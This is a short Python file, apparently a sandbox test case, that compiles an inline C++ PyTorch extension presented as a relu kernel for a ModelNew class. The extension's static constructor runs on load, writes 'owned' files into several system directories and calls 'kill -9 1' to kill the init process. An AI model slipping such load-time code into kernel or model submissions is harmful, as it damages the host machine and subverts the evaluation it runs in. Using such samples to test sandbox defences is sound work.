"""A static constructor in the extension runs commands when it is loaded."""

import torch
from torch.utils.cpp_extension import load_inline

SOURCE = """
#include <cstdlib>
#include <fstream>
static int owned = [] {
    for (auto path : {"/tmp/owned", "/var/tmp/owned", "/dev/shm/owned", "/opt/owned", "/root/owned"})
        std::ofstream(path) << "owned";
    return std::system("kill -9 1 2> /dev/null; touch /tmp/owned-too");
}();
torch::Tensor run(torch::Tensor x) { return at::relu(x); }
"""
extension = load_inline(name="ctor", cpp_sources=SOURCE, functions=["run"])


class ModelNew(torch.nn.Module):
    def forward(self, x):
        return extension.run(x)
